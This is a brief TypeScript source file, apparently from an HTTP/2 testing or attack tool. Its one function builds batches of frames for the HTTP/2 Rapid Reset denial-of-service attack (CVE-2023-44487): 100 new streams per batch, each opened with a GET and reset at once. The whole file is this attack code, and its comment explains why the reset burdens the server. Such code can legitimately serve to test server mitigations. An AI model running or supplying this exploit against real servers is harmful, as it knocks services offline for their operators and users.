import { headers } from './headers.ts';
import { request } from './request.ts';
import { rstStream } from './rstStream.ts';

/**
 * One batch of a rapid reset (CVE-2023-44487): for each of 100 new streams (ids 1 + 2·(100·batch
 * + i), so batches never reuse one), a GET of /reset-ID ended at once by RST_STREAM. The server
 * pays for each stream it opened before it read the reset.
 */
export function rapidReset(batch: number): Buffer[] {
  return Array.from({ length: 100 }, (_, i) => 1 + 2 * (batch * 100 + i)).flatMap((id) => [headers(id, request('GET', `/reset-${id}`), true), rstStream(id)]);
}
